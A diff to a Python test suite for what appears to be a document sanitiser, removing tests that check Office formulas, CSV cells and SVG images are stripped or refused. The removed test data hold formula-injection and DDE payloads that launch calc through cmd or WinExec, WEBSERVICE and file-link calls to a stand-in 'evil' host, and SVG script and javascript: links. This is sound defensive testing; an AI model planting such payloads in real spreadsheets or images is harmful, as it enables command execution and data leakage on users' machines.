@@ -290,32 +290,6 @@ def test_fields_that_count_refer_and_link_stay() -> None:
     assert parts_of(accepted.data)["word/document.xml"].count(b'w:fldCharType="begin"') == 5
 
 
-@pytest.mark.parametrize(
-    "formula",
-    [
-        "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\cmd.exe'!''", 'WEBSERVICE("http://evil/"&amp;A1)', '_xlfn.IMAGE("http://evil/x")',
-        'CALL("Kernel32","WinExec","JFJ","calc",0)', 'RTD("evil",,"x")', "'\\\\evil\\share\\[x.xlsx]Un'!A1", "'http://evil/[x.xlsx]Un'!A1",
-        'HYPERLINK("file://evil/x","Voir")', 'IF(1,DDE("soffice","x","y"),0)',
-    ],
-)  # fmt: skip
-def test_a_formula_that_reaches_out_becomes_its_last_value(formula: str) -> None:
-    cells = f'<c r="A1"><f>{formula}</f><v>42</v></c><c r="B1"><f>SUM(A1:A2)&amp;"a|b!"</f><v>7</v></c>'
-    accepted = _accept(workbook(cells).written())
-    sheet = parts_of(accepted.data)["xl/worksheets/sheet1.xml"]
-    assert b"<v>42</v>" in sheet
-    assert sheet.count(b"<f>") == 1
-    assert b"SUM(A1:A2)" in sheet
-    assert "formules" in told(accepted.removed)
-
-
-def test_a_shared_formula_goes_with_all_that_repeat_it() -> None:
-    cells = '<c r="A1"><f t="shared" ref="A1:B1" si="0">WEBSERVICE("http://evil/")</f><v>1</v></c>'
-    cells += '<c r="B1"><f t="shared" si="0"/><v>2</v></c>'
-    sheet = parts_of(_accept(workbook(cells).written()).data)["xl/worksheets/sheet1.xml"]
-    assert b"<f" not in sheet
-    assert b"<v>2</v>" in sheet
-
-
 def test_shapes_of_a_slide_or_sheet_start_nothing() -> None:
     made = slides(
         '<a:hlinkClick action="ppaction://program" r:id="x"/><a:hlinkHover action="ppaction://macro?name=evil"/>'
@@ -384,27 +358,3 @@ def test_a_picture_written_into_the_text_is_a_picture() -> None:
     assert kept.removed == ()
     assert b"binary-data" not in parts_of(_accept(open_document(frame(b"evil"))).data)["content.xml"]
     assert "un programme" in _refused(open_document(frame(PROGRAM)))
-
-
-def test_a_drawing_in_svg_keeps_its_lines_only() -> None:
-    svg = (
-        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="evil()">'
-        '<script>evil()</script><image xlink:href="http://evil/x.png"/><a xlink:href="javascript:evil()"><path d="M0 0"/></a>'
-        "<style>@import url(evil)</style></svg>"
-    )
-    data = open_document('<draw:frame><draw:image xlink:href="Pictures/a.svg"/></draw:frame>', **{"Pictures__a.svg": svg})
-    kept = parts_of(_accept(data).data)["Pictures/a.svg"]
-    assert b"evil" not in kept
-    assert b"path" in kept
-
-
-@pytest.mark.parametrize(
-    "cell", ["=cmd|'/C calc'!A0", "\"-2+3+cmd|' /C calc'!A0\"", "@SUM(1)*cmd|'/C calc'!A0", '"=WEBSERVICE(""http://evil/"")"']
-)
-def test_a_table_of_text_that_starts_a_program_is_refused(cell: str) -> None:
-    assert "une formule" in _refused(f"mois;visites\n1;{cell}\n".encode())
-
-
-@pytest.mark.parametrize("line", ["=SUM(A1:A2);-3;+4", "- une demande (request (x)) | autre !", "@nom | oui !", "a|b!;-c"])
-def test_other_formulas_and_dashes_are_only_text(line: str) -> None:
-    assert _accept(f"mois;visites\n{line}\n".encode()).data
